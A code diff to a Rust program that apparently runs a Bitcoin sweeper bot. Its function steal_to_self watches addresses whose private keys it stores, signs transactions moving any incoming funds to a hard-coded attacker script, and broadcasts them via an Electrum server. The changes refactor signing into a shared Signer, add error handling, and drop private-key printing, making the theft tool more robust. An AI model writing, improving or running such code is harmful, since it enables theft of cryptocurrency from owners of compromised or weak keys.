@@ -1,8 +1,4 @@
 use bitcoin::absolute::LockTime;
-use bitcoin::key::{TapTweak, TweakedKeyPair};
-use bitcoin::psbt::Psbt;
-use bitcoin::secp256k1::{Message, Secp256k1};
-use bitcoin::sighash::{EcdsaSighashType, Prevouts, SighashCache, TapSighashType};
 use bitcoin::{
     Network, OutPoint, PrivateKey, Script, ScriptBuf, Sequence, Transaction, TxIn, TxOut, Txid,
     Witness,
@@ -10,6 +6,7 @@ use bitcoin::{
 use btc::define_table;
 use btc::key_pair::Account;
 use btc::keypair::random::generate_keypair_randomly;
+use btc::signer::Signer;
 use electrum_client::{Client as ElectrsClient, ElectrumApi};
 use redb::{Database, ReadableTable, TableDefinition};
 use std::path::Path;
@@ -35,15 +32,19 @@ fn steal_to_self(
         return Ok(());
     }
 
-    let secp = Secp256k1::new();
-
     let utxos = electrs_client.script_list_unspent(script)?;
     let src_script_pubkey = script.to_owned();
     let target_script_pubkey = ScriptBuf::from_hex(TARGET_SCRIPT_PUBKEY)?;
+    let signer = Signer::new(vec![account])?;
+    if signer.owner(script).is_none() {
+        return Ok(());
+    }
 
     for utxo in utxos {
         let gas = 120 * 50;
-        let change = utxo.value.checked_sub(gas).unwrap();
+        let Some(change) = utxo.value.checked_sub(gas) else {
+            continue;
+        };
 
         let input = TxIn {
             previous_output: OutPoint {
@@ -59,108 +60,20 @@ fn steal_to_self(
             value: change,
             script_pubkey: target_script_pubkey.clone(),
         };
-        let mut unsigned_tx = Transaction {
+        let mut tx = Transaction {
             version: 2,
             lock_time: LockTime::ZERO,
             input: vec![input],
-            output: vec![output.clone()],
+            output: vec![output],
         };
-        if src_script_pubkey.is_p2pkh() {
-            let input_index = 0;
-            let hash_ty = EcdsaSighashType::All;
-
-            let sighasher = SighashCache::new(unsigned_tx.clone());
-            let sighash = sighasher
-                .legacy_signature_hash(input_index, src_script_pubkey.as_script(), hash_ty.to_u32())
-                .expect("");
-            let msg = Message::from(sighash);
-            let sig = secp.sign_ecdsa(&msg, &account.secret_key());
-
-            let signature = bitcoin::ecdsa::Signature { sig, hash_ty };
-
-            let pk = {
-                if account
-                    .p2pkh_address()?
-                    .script_pubkey()
-                    .as_script()
-                    .to_string()
-                    == script.to_string()
-                {
-                    account.public_key()?
-                } else {
-                    account.public_key_uncompressed()?
-                }
-            };
+        // the output being spent, not the one being created
+        let prevout = TxOut {
+            value: utxo.value,
+            script_pubkey: src_script_pubkey.clone(),
+        };
+        signer.sign_all(&mut tx, &[prevout])?;
 
-            let mut psbt = Psbt::from_unsigned_tx(unsigned_tx)?;
-            psbt.inputs[input_index].partial_sigs.insert(pk, signature);
-            let signed_tx = psbt.extract_tx();
-
-            electrs_client.transaction_broadcast(&signed_tx)?;
-        } else if src_script_pubkey.is_p2sh() {
-        } else if src_script_pubkey.is_v0_p2wpkh() {
-            let sighash_type = EcdsaSighashType::All;
-            let input_index = 0;
-
-            let mut sighasher = SighashCache::new(&mut unsigned_tx);
-            let sighash = sighasher
-                .segwit_signature_hash(
-                    input_index,
-                    src_script_pubkey.as_script(),
-                    utxo.value,
-                    sighash_type,
-                )
-                .expect("failed to create sighash");
-
-            // Sign the sighash using the secp256k1 library (exported by rust-bitcoin).
-            let msg = Message::from(sighash);
-            let signature = secp.sign_ecdsa(&msg, &account.secret_key());
-
-            // Update the witness stack.
-            let signature = bitcoin::ecdsa::Signature {
-                sig: signature,
-                hash_ty: sighash_type,
-            };
-            let pk = account.public_key()?;
-            let mut witness = Witness::new();
-            witness.push(signature.serialize());
-            witness.push(pk.to_bytes());
-            *sighasher.witness_mut(input_index).unwrap() = witness;
-
-            // Get the signed transaction.
-            let signed_tx = sighasher.into_transaction();
-            electrs_client.transaction_broadcast(&signed_tx)?;
-        } else if src_script_pubkey.is_v1_p2tr() {
-            let mut sighasher = SighashCache::new(&mut unsigned_tx);
-            let input_index = 0;
-            let sighash = sighasher
-                .taproot_key_spend_signature_hash(
-                    input_index,
-                    &Prevouts::All(&vec![output]),
-                    TapSighashType::Default,
-                )
-                .expect("failed to construct sighash");
-
-            // Sign the sighash using the secp256k1 library (exported by rust-bitcoin).
-            let keypair = account.keypair();
-            let tweaked: TweakedKeyPair = keypair.tap_tweak(&secp, None);
-            let msg = Message::from(sighash);
-            let signature = secp.sign_schnorr(&msg, &tweaked.to_inner());
-
-            // Update the witness stack.
-            let signature = bitcoin::taproot::Signature {
-                sig: signature,
-                hash_ty: TapSighashType::Default,
-            };
-            // signature.to_vec();
-            let mut script_witness = Witness::new();
-            script_witness.push(signature.to_vec());
-            *sighasher.witness_mut(input_index).unwrap() = script_witness;
-
-            // Get the signed transaction.
-            let signed_tx = sighasher.into_transaction();
-            electrs_client.transaction_broadcast(&signed_tx)?;
-        }
+        electrs_client.transaction_broadcast(&tx)?;
     }
 
     Ok(())
@@ -231,7 +144,13 @@ async fn zmq_tx_hash(
                     continue;
                 }
             };
-            steal_to_self(script, account, electrs_client.clone()).expect("steal...");
+            if let Err(e) = steal_to_self(script, account, electrs_client.clone()) {
+                println!(
+                    "txid: {:}, script: {:} steal failed: {e}",
+                    txid,
+                    script.to_hex_string()
+                );
+            }
         }
     }
 }
@@ -263,7 +182,7 @@ async fn iterate_existing_private_keys(
         for kv in table.iter()? {
             let real_kv = kv.unwrap();
 
-            println!("{:} : {:}", real_kv.0.value(), real_kv.1.value());
+            println!("{:}", real_kv.0.value());
             let script_value = real_kv.0.value();
             let script_pubkey = match ScriptBuf::from_hex(&script_value) {
                 Ok(script_pubkey) => script_pubkey,
@@ -272,7 +191,7 @@ async fn iterate_existing_private_keys(
             let script = script_pubkey.as_script();
 
             let private_key = PrivateKey::from_str(real_kv.1.value().as_str())?;
-            println!("{:?}, {:} : {:}", script_value, script, private_key);
+            println!("{:?}, {:}", script_value, script);
 
             let account = Account::from(private_key);
 
@@ -287,14 +206,14 @@ fn iterate_on_account(
     database: Arc<Database>,
 ) -> anyhow::Result<()> {
     let address_to_private_key = [
-        (account.p2pkh_address()?, account.private_key()?),
+        (account.p2pkh_address()?, account.reveal_private_key()?),
         (
             account.p2pkh_address_uncompressed()?,
-            account.private_key_uncompressed()?,
+            account.reveal_private_key_uncompressed()?,
         ),
-        (account.p2shwpkh_address()?, account.private_key()?),
-        (account.p2wpkh_address()?, account.private_key()?),
-        (account.p2tr_address(), account.private_key()?),
+        (account.p2shwpkh_address()?, account.reveal_private_key()?),
+        (account.p2wpkh_address()?, account.reveal_private_key()?),
+        (account.p2tr_address(), account.reveal_private_key()?),
     ];
 
     for (address, private_key) in address_to_private_key {